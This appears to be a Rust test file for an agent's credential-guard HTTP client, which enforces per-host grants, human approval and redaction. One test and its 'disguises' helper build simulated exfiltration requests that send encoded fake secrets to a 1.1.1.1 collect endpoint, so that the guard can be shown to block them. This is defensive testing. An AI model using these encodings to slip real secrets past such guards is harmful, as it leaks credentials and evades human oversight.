//! Credentials at the boundary: injected per host by grants, placeholders
//! substituted only where a grant allows, secrets never leaving in any
//! encoding to a host without a grant.

use crate::support;

#[path = "guard/renderings.rs"]
mod renderings;

use std::collections::BTreeMap;
use std::net::IpAddr;
use std::sync::Arc;

use base64::Engine as _;
use bulwark_net::{
    BodyMode, CallContext, Credentials, EgressPolicy, HttpLimits, HttpRequest, NetError, SafeHttp,
    SecretStore, StaticResolver, UseOutcome,
};
use bulwark_policy::CredentialGrant;
use proptest::prelude::*;
use secrecy::SecretString;
use support::{RecordingDialer, redirect, response, serve};

const GH: &str = "ghp_S3cretTokenValue_0123456789";
const MAPS: &str = "maps-key-7f3a9c1e55";
const WIRE: &str = "wire-acct-99887766";
const PROVIDER: &str = "sk-ant-provider-key-abcdef123456";

fn store() -> Arc<SecretStore> {
    let mut s = SecretStore::new();
    s.insert("GH_TOKEN", SecretString::from(GH), true);
    s.insert("MAPS_KEY", SecretString::from(MAPS), true);
    s.insert("WIRE_ACCOUNT", SecretString::from(WIRE), true);
    s.insert("ANTHROPIC_API_KEY", SecretString::from(PROVIDER), false);
    Arc::new(s)
}

fn grants(toml_src: &str) -> BTreeMap<String, CredentialGrant> {
    #[derive(serde::Deserialize)]
    struct G {
        grants: BTreeMap<String, CredentialGrant>,
    }
    toml::from_str::<G>(toml_src).expect("grants").grants
}

const STRICT: &str = r#"
[grants.github]
keys = ["GH_TOKEN"]
tools = ["web"]
hosts = ["api.gh.test"]
inject = [{ header = "Authorization", value = "Bearer ${GH_TOKEN}" }]

[grants.maps]
keys = ["MAPS_KEY"]
tools = ["web"]
hosts = ["*.maps.test"]
inject = [{ query = "key", value = "${MAPS_KEY}" }]

[grants.wire]
keys = ["WIRE_ACCOUNT"]
tools = ["web"]
hosts = ["bank.test"]
inject = [{ header = "X-Account", value = "${WIRE_ACCOUNT}" }]
approval = "required"
"#;

/// An echo server reachable as each of `names` (all internal overrides on
/// the same port), with the given grants.
async fn echo_client(names: &[&str], grant_src: &str) -> (SafeHttp, u16) {
    let (port, _) = serve(Arc::new(|head: &str| {
        response("200 OK", &[("Content-Type", "text/plain")], head.as_bytes())
    }))
    .await;
    let resolver = Arc::new(StaticResolver::new());
    let lo: IpAddr = "127.0.0.1".parse().expect("ip");
    let mut http = SafeHttp::new(
        EgressPolicy {
            allowed_domains: Vec::new(),
            allow_all: true,
        },
        HttpLimits::default(),
    )
    .expect("client")
    .with_resolver(resolver.clone())
    .with_credentials(Arc::new(
        Credentials::new(&grants(grant_src), store()).expect("credentials"),
    ));
    for n in names {
        resolver.answer(n, vec![lo]);
        http.allow_internal_service(n, port);
    }
    (http, port)
}

fn web() -> CallContext {
    CallContext::tool("web")
}

async fn seen(http: &SafeHttp, ctx: &CallContext, req: HttpRequest) -> (String, Vec<UseOutcome>) {
    let sent = http.send_as(ctx, req, BodyMode::Prefix).await;
    let outcomes = sent.credentials.iter().map(|u| u.outcome).collect();
    let body = sent
        .result
        .map(|r| String::from_utf8_lossy(&r.body).to_string());
    (body.unwrap_or_else(|e| format!("ERROR {e}")), outcomes)
}

#[tokio::test]
async fn grants_inject_for_their_host_and_tool_only() {
    let (http, port) = echo_client(
        &["api.gh.test", "other.test", "eu.maps.test", "bank.test"],
        STRICT,
    )
    .await;
    let url = |h: &str| format!("http://{h}:{port}/x");

    let (body, uses) = seen(&http, &web(), HttpRequest::get(&url("api.gh.test"))).await;
    assert!(
        body.contains(&format!("authorization: Bearer {GH}")),
        "{body}"
    );
    assert_eq!(uses, [UseOutcome::Injected]);

    let (body, uses) = seen(&http, &web(), HttpRequest::get(&url("other.test"))).await;
    assert!(
        !body.contains(GH) && !body.to_lowercase().contains("authorization"),
        "{body}"
    );
    assert!(uses.is_empty());

    // Another tool domain gets nothing from a web grant.
    let (body, uses) = seen(
        &http,
        &CallContext::tool("a2a"),
        HttpRequest::get(&url("api.gh.test")),
    )
    .await;
    assert!(!body.contains(GH), "{body}");
    assert!(uses.is_empty());

    // Query injection: on the wire, but never in the URL reported back.
    let sent = http
        .send_as(
            &web(),
            HttpRequest::get(&url("eu.maps.test")),
            BodyMode::Prefix,
        )
        .await;
    let r = sent.result.expect("maps");
    assert!(String::from_utf8_lossy(&r.body).contains(&format!("/x?key={MAPS}")));
    assert!(!r.final_url.contains(MAPS), "{}", r.final_url);

    // approval = "required": skipped unless a human approved the call.
    let (body, uses) = seen(&http, &web(), HttpRequest::get(&url("bank.test"))).await;
    assert!(!body.contains(WIRE), "{body}");
    assert_eq!(uses, [UseOutcome::SkippedNeedsApproval]);
    let approved = CallContext {
        tool: "web".into(),
        human_approved: true,
    };
    let (body, uses) = seen(&http, &approved, HttpRequest::get(&url("bank.test"))).await;
    assert!(body.contains(WIRE), "{body}");
    assert_eq!(uses, [UseOutcome::Injected]);
}

#[tokio::test]
async fn injected_credentials_do_not_follow_a_redirect_to_another_host() {
    let (other, _) = serve(Arc::new(|head: &str| {
        response("200 OK", &[], head.as_bytes())
    }))
    .await;
    let (start, _) = serve(Arc::new(move |_: &str| {
        redirect(&format!("http://other.test:{other}/landed"))
    }))
    .await;
    let resolver = Arc::new(StaticResolver::new());
    let lo: IpAddr = "127.0.0.1".parse().expect("ip");
    resolver
        .answer("api.gh.test", vec![lo])
        .answer("other.test", vec![lo]);
    let mut http = SafeHttp::new(
        EgressPolicy {
            allowed_domains: Vec::new(),
            allow_all: true,
        },
        HttpLimits::default(),
    )
    .expect("client")
    .with_resolver(resolver)
    .with_credentials(Arc::new(
        Credentials::new(&grants(STRICT), store()).expect("creds"),
    ));
    http.allow_internal_service("api.gh.test", start);
    http.allow_internal_service("other.test", other);
    let (body, uses) = seen(
        &http,
        &web(),
        HttpRequest::get(&format!("http://api.gh.test:{start}/")),
    )
    .await;
    assert!(body.starts_with("GET /landed"), "{body}");
    assert!(!body.contains(GH), "{body}");
    assert_eq!(
        uses,
        [UseOutcome::Injected],
        "injected on the first hop only"
    );
}

#[tokio::test]
async fn placeholders_resolve_only_where_a_grant_allows() {
    let strict =
        "[grants.gh]\nkeys = [\"GH_TOKEN\"]\ntools = [\"web\"]\nhosts = [\"api.gh.test\"]\n";
    let (http, port) = echo_client(&["api.gh.test", "other.test"], strict).await;
    let req = |host: &str, value: &str| HttpRequest {
        method: "GET".into(),
        url: format!("http://{host}:{port}/"),
        headers: vec![("X-Api-Key".into(), value.into())],
        body: Vec::new(),
    };
    let (body, uses) = seen(&http, &web(), req("api.gh.test", "token ${GH_TOKEN}")).await;
    assert!(body.contains(&format!("x-api-key: token {GH}")), "{body}");
    assert_eq!(uses, [UseOutcome::Substituted]);
    for (host, value, why) in [
        ("other.test", "${GH_TOKEN}", "host not in the grant"),
        ("api.gh.test", "${MAPS_KEY}", "key not in any grant"),
        ("api.gh.test", "${ANTHROPIC_API_KEY}", "provider key"),
        ("api.gh.test", "${NOT_SET}", "unknown key"),
        ("api.gh.test", "${unterminated", "bad placeholder"),
    ] {
        let (body, _) = seen(&http, &web(), req(host, value)).await;
        assert!(body.starts_with("ERROR"), "{why}: {body}");
        assert!(
            !body.contains(GH) && !body.contains(MAPS) && !body.contains(PROVIDER),
            "{body}"
        );
    }

    // Legacy mode (no grants): any injectable key to any allowed host.
    let (legacy, port) = echo_client(&["other.test"], "[grants]\n").await;
    assert_eq!(
        legacy.credentials().map(|c| c.mode()),
        Some(bulwark_policy::CredentialMode::Legacy)
    );
    let r = HttpRequest {
        method: "GET".into(),
        url: format!("http://other.test:{port}/"),
        headers: vec![("X-Api-Key".into(), "${MAPS_KEY}".into())],
        body: Vec::new(),
    };
    let (body, uses) = seen(&legacy, &web(), r.clone()).await;
    assert!(body.contains(MAPS), "{body}");
    assert_eq!(uses, [UseOutcome::Substituted]);
    let mut provider = r;
    provider.headers = vec![("X-Api-Key".into(), "${ANTHROPIC_API_KEY}".into())];
    let (body, _) = seen(&legacy, &web(), provider).await;
    assert!(
        body.starts_with("ERROR") && !body.contains(PROVIDER),
        "{body}"
    );
}

/// The forms an agent could hide `secret` in.
fn disguises(secret: &str) -> Vec<(String, String)> {
    use base64::engine::general_purpose::{STANDARD, STANDARD_NO_PAD, URL_SAFE, URL_SAFE_NO_PAD};
    let b = secret.as_bytes();
    let pct: String = b.iter().map(|c| format!("%{c:02X}")).collect();
    vec![
        ("raw".into(), secret.to_string()),
        ("base64".into(), STANDARD.encode(b)),
        ("base64 no pad".into(), STANDARD_NO_PAD.encode(b)),
        ("base64url".into(), URL_SAFE.encode(b)),
        ("base64url no pad".into(), URL_SAFE_NO_PAD.encode(b)),
        (
            "base64 with 1-byte prefix".into(),
            STANDARD.encode([b"x", b].concat()),
        ),
        (
            "base64 with 2-byte prefix".into(),
            STANDARD.encode([b"xy", b].concat()),
        ),
        (
            "base64 with prefix and suffix".into(),
            STANDARD.encode([b"user=", b, b"&x=1"].concat()),
        ),
        ("hex".into(), hex::encode(b)),
        ("HEX".into(), hex::encode_upper(b)),
        ("hex with odd prefix".into(), format!("a{}", hex::encode(b))),
        ("percent-encoded".into(), pct.clone()),
        (
            "percent-encoded base64".into(),
            STANDARD
                .encode(b)
                .replace('+', "%2B")
                .replace('/', "%2F")
                .replace('=', "%3D"),
        ),
        (
            "half percent-encoded".into(),
            format!(
                "{}{}",
                &secret[..4],
                b[4..]
                    .iter()
                    .map(|c| format!("%{c:02x}"))
                    .collect::<String>()
            ),
        ),
    ]
}

#[tokio::test]
async fn secrets_do_not_leave_in_any_encoding() {
    let dialer = Arc::new(RecordingDialer::default());
    let http = SafeHttp::new(
        EgressPolicy {
            allowed_domains: Vec::new(),
            allow_all: true,
        },
        HttpLimits::default(),
    )
    .expect("client")
    .with_dialer(dialer.clone())
    .with_credentials(Arc::new(
        Credentials::new(&grants(STRICT), store()).expect("creds"),
    ));
    let mut tried = 0;
    for secret in [GH, MAPS, WIRE, PROVIDER] {
        for (form, text) in disguises(secret) {
            let places = [
                HttpRequest::get(&format!("http://1.1.1.1/collect?d={text}")),
                HttpRequest::get(&format!("http://1.1.1.1/{text}/x")),
                HttpRequest {
                    method: "GET".into(),
                    url: "http://1.1.1.1/".into(),
                    headers: vec![("X-Data".into(), format!("v={text}"))],
                    body: Vec::new(),
                },
                HttpRequest {
                    method: "POST".into(),
                    url: "http://1.1.1.1/".into(),
                    headers: Vec::new(),
                    body: format!("{{\"note\":\"{text}\"}}").into_bytes(),
                },
            ];
            for req in places {
                let r = http.send_as(&web(), req, BodyMode::Prefix).await.result;
                let msg = format!("{r:?}");
                assert!(
                    matches!(r, Err(NetError::Exfiltration { .. })),
                    "{form}: {msg}"
                );
                assert!(!msg.contains(secret), "{form}: the message leaks the value");
                tried += 1;
            }
        }
    }
    assert_eq!(tried, 4 * 14 * 4);
    assert!(
        dialer.dialled().is_empty(),
        "a request carrying a secret was dialled"
    );

    // Ordinary traffic passes the guard (and reaches the dialer).
    let r = http.get("http://1.1.1.1/search?q=rust+tokio+hyper").await;
    assert!(matches!(r, Err(NetError::Transport { .. })), "{r:?}");
    assert_eq!(dialer.dialled().len(), 1);
}

#[test]
fn redaction_names_the_key_not_the_value() {
    let s = store();
    let text = format!("echo: Authorization: Bearer {GH}, key={MAPS}");
    let red = s.redact(&text);
    assert!(!red.contains(GH) && !red.contains(MAPS), "{red}");
    assert!(red.contains("[secret GH_TOKEN redacted]"), "{red}");
    assert!(!format!("{s:?}").contains(GH), "Debug shows names only");
}

proptest! {
    /// What comes back from outside (an echoing server, a command printing
    /// its environment encoded) is redacted in hex and base64 too, wherever
    /// the secret sits inside a longer encoded blob.
    #[test]
    fn redaction_covers_encoded_echoes(
        secret in "[A-Za-z0-9_./+=-]{8,40}",
        before in proptest::collection::vec(any::<u8>(), 0..6),
        after in proptest::collection::vec(any::<u8>(), 0..6),
        encoding in 0usize..4,
    ) {
        use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
        let mut store = SecretStore::new();
        store.insert("K", SecretString::from(secret.clone()), true);
        let mut blob = before.clone();
        blob.extend_from_slice(secret.as_bytes());
        blob.extend_from_slice(&after);
        let text = match encoding {
            0 => STANDARD.encode(&blob),
            1 => URL_SAFE_NO_PAD.encode(&blob),
            2 => hex::encode(&blob),
            _ => hex::encode_upper(&blob),
        };
        let red = store.redact(&format!("echo: {text} end"));
        prop_assert!(red.contains("[secret K redacted]"), "{} -> {}", text, red);
        prop_assert!(store.find_in(red.as_bytes()).is_none(), "{}", red);
    }

    #[test]
    fn any_disguise_at_any_offset_is_found(
        secret in "[A-Za-z0-9_./+=-]{8,40}",
        prefix in "[a-z0-9 =&?]{0,20}",
        suffix in "[a-z0-9 =&?]{0,20}",
        which in 0usize..14,
    ) {
        let mut store = SecretStore::new();
        store.insert("K", SecretString::from(secret.clone()), true);
        let (form, text) = disguises(&secret).swap_remove(which);
        let hay = format!("{prefix}{text}{suffix}");
        prop_assert_eq!(store.find_in(hay.as_bytes()), Some("K"), "{} in {:?}", form, hay);
    }

    #[test]
    fn text_without_the_secret_is_not_flagged(
        secret in "[A-Za-z0-9]{16,32}",
        text in "[ -~]{0,200}",
    ) {
        prop_assume!(!text.contains(&secret));
        let mut store = SecretStore::new();
        store.insert("K", SecretString::from(secret), true);
        prop_assert_eq!(store.find_in(text.as_bytes()), None);
    }
}
